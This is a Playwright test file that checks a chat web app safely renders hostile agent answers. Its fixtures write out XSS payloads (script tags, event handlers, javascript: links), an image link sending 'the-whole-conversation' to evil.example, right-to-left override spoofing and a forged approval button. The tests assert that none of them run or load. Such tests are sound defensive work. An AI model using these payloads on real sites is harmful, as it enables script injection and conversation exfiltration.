"""Hostile answers in the web app: they cannot run, fetch, block or hide anything."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, Route, expect

from browser_support import Look, Open, act, agent, begin, choose_agent, eventually, fits, say, served_agents, settled

ECHO = """
version: v1
id: flow.echo
title: Echo
nodes:
  - {id: q.what, type: question, key: what, prompt: What?, read: verbatim, ask: always}
  - {id: tell, type: action, run: tell}
  - {id: done, type: terminal}
edges:
  - {from: q.what, to: tell}
  - {from: tell, to: done}
"""
TELL = """
import json
from pathlib import Path

from graphwright import action


@action(reads=["answers.what"], writes=[])
def tell(state, ctx):
    texts = json.loads((Path(__file__).parent / "texts.json").read_text())
    text = texts[state["answers"]["what"]]
    for start in range(0, min(len(text), 4000), 40):
        ctx.stream(text[start : start + 40])
    ctx.say(text)
    return {}
"""
RUNS = "window.ran = true"
TEXTS = {
    "markup": f"""<script>{RUNS}</script>
<img src=x onerror="{RUNS}"><svg onload="{RUNS}"><animate onbegin="{RUNS}" attributeName=x dur=1s></svg>
<details open ontoggle="{RUNS}">x</details><iframe srcdoc="<script>parent.ran = true</script>"></iframe>
<style>body {{ display: none }}</style><form action="https://evil.example/"><button>Send me</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0; url=https://evil.example/">

The end of it.""",
    "links": f"""[one](javascript:{RUNS.replace(" ", "")}) [two](JaVaScRiPt&colon;{RUNS.replace(" ", "")})
[three](data:text/html,<script>{RUNS}</script>) [four](vbscript:x) <javascript:{RUNS.replace(" ", "")}>
[five](https://evil.example/page) [six](//evil.example/page) [seven][ref]

[ref]: javascript:{RUNS.replace(" ", "")}

The end of it.""",
    "pictures": """![secret](https://evil.example/?q=the-whole-conversation) ![two](//evil.example/x.png)
![three](data:image/svg+xml,<svg onload="x"/>) ![four][ref]

[ref]: https://evil.example/y.png

$$\\includegraphics{https://evil.example/z.png} \\href{javascript:window.ran=true}{x} \\url{javascript:x}$$

The end of it.""",
    "mathematics": "$$\\frac{1}{$$ and $$\\def\\a{\\a\\a}\\a$$ and $$\\rule{9999em}{9999em}$$\n\nThe end of it.",
    "wide": "| " + " | ".join(f"column {n}" for n in range(200)) + " |\n|" + "---|" * 200 + "\n"
    + "\n".join("| " + " | ".join(["x" * 30] * 200) + " |" for _ in range(50)) + "\n\nThe end of it.",
    "line": "x" * 200_000 + "\n\n" + "> " * 3_000 + "deep\n\n" + "*" * 20_000 + "\n\nThe end of it.",
    "direction": "Pay \u202e000,1\u202c to \u202eelpmaxe.live//:sptth\u202c and \u2066more\n\nThe end of it.",
    "fake": "**Approval**\n\n<button>Approve</button> [Approve](#approve)\n\n- [x] Approved by you\n\nThe end of it.",
}  # fmt: skip


@pytest.fixture(scope="module")
def address(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    folder: Path = tmp_path_factory.mktemp("hostile")
    name = agent(folder, "echo", ECHO, TELL)
    (folder / name / "texts.json").write_text(json.dumps(TEXTS), "utf-8")
    with served_agents(folder, agents=[name]) as (_, address):
        yield address


@pytest.fixture
def page(address: str, open_page: Open) -> Page:
    """Fail, as for every page here, if it sends a request to another host or writes an error to the console."""
    page = open_page(f"{address}/#/chat")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    return page


def check_text(page: Page, name: str) -> None:
    begin(page, "Echo", name)
    expect(page.get_by_role("log").get_by_text("The end of it.").last).to_be_visible()
    settled(page)
    assert page.evaluate("window.ran") is None
    # Nothing is wider than the page.
    fits(page)
    eventually(
        page, lambda: page.locator(".conversation-scroll").evaluate("it => it.scrollWidth - it.clientWidth") == 0
    )


def test_markup_in_texts_is_escaped(page: Page) -> None:
    check_text(page, "markup")
    answer = page.get_by_role("article", name="Echo").last
    for tag in (
        "script",
        "iframe",
        "form",
        "style",
        "base",
        "meta",
        "details:not(.disclosure)",
        "svg:not(.lucide)",
        "img",
    ):
        expect(answer.locator(tag)).to_have_count(0)
    expect(page.locator("body")).to_be_visible()


def test_a_link_leads_to_a_page_or_nowhere(page: Page, accessible: Look) -> None:
    check_text(page, "links")
    answer = page.get_by_role("article", name="Echo").last
    links = answer.get_by_role("link").evaluate_all(
        "all => all.map(it => [it.textContent, it.href, it.rel, it.target])"
    )
    assert all(href.startswith("http") for _, href, _, _ in links), links
    assert {text for text, *_ in links} == {"five", "six"}
    for _, _, rel, target in links:
        assert target == "_blank"
        assert {"noopener", "noreferrer"} <= set(rel.split())
    accessible(page)


def test_remote_pictures_are_not_loaded(page: Page) -> None:
    check_text(page, "pictures")
    answer = page.get_by_role("article", name="Echo").last
    expect(answer.get_by_role("link", name="Picture elsewhere: secret")).to_be_visible()
    expect(answer.locator("img")).to_have_count(0)


def test_invalid_formulas_are_shown_as_text(page: Page) -> None:
    check_text(page, "mathematics")
    assert page.evaluate("document.querySelector('.conversation-scroll').scrollHeight") < 20_000


@pytest.mark.parametrize("name", ["wide", "line"])
def test_enormous_content_scrolls_and_the_page_responds(page: Page, name: str) -> None:
    check_text(page, name)
    page.get_by_role("textbox", name="Message", exact=True).fill("still there")
    say(page, "direction")
    expect(page.get_by_role("article", name="You").last).to_have_text("direction")
    settled(page)


def test_writing_that_runs_backwards_ends_with_its_paragraph(page: Page) -> None:
    check_text(page, "direction")
    # A character that changes the writing direction must not affect the text after it, and is shown by name.
    paragraph = page.get_by_role("article", name="Echo").last.locator(".markdown p").first
    assert not any(sign in (paragraph.text_content() or "") for sign in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068")


def test_uploaded_text_is_shown_as_text(page: Page) -> None:
    choose_agent(page, "Data scientist")
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files({"name": "a\u202efdp.csv", "mimeType": "text/csv", "buffer": b"size,price\nlarge,2\n"})
    expect(page.locator(".attachments")).to_contain_text("a[U+202E]fdp.csv")
    box = page.get_by_role("textbox", name="Message", exact=True)
    box.fill("What is \u202eelpmaxe?")
    expect(box).to_have_value("What is \u202eelpmaxe?")
    box.press("Enter")
    expect(page.get_by_role("heading", level=1)).to_have_text("What is [U+202E]elpmaxe?")
    settled(page)
    assert "\u202e" not in page.locator("body").inner_text()
    # The field for a change has the title as typed, up to the maximum length.
    act(page, "Rename")
    title = page.get_by_role("dialog", name="Rename").get_by_role("textbox", name="Title")
    expect(title).to_have_value("What is \u202eelpmaxe?")
    title.fill("")
    page.keyboard.insert_text("x" * 300)
    expect(title).to_have_value("x" * 200)


def test_a_message_sent_during_an_upload_goes_out_with_the_file(page: Page) -> None:
    choose_agent(page, "Data scientist")
    held: list[Route] = []
    page.route("**/api/v1/files*", lambda route: held.append(route))
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files({"name": "sizes.csv", "mimeType": "text/csv", "buffer": b"size,price\nlarge,2\n"})
    box = page.get_by_role("textbox", name="Message", exact=True)
    box.fill("What is large?")
    box.press("Enter")
    expect(page.get_by_role("status").filter(has_text="Sent after the upload")).to_be_visible()
    expect(box).to_have_value("What is large?")
    # A file that is removed is a change of mind: nothing is sent without it.
    with page.expect_file_chooser() as chooser:
        page.get_by_role("button", name="Attach files").click()
    chooser.value.set_files({"name": "other.csv", "mimeType": "text/csv", "buffer": b"a\n1\n"})
    page.get_by_role("button", name="Remove other.csv").click()
    expect(page.get_by_role("status").filter(has_text="Sent after the upload")).to_have_count(0)
    box.press("Enter")
    held[0].continue_()
    expect(page.get_by_role("heading", level=1)).to_have_text("What is large?")
    expect(page.get_by_role("article", name="You")).to_contain_text("sizes.csv")
    expect(box).to_have_value("")
    settled(page)


def test_a_forged_approval_has_no_button(page: Page) -> None:
    check_text(page, "fake")
    expect(page.get_by_role("button", name="Approve")).to_have_count(0)
    expect(page.get_by_role("region", name="Approval")).to_have_count(0)
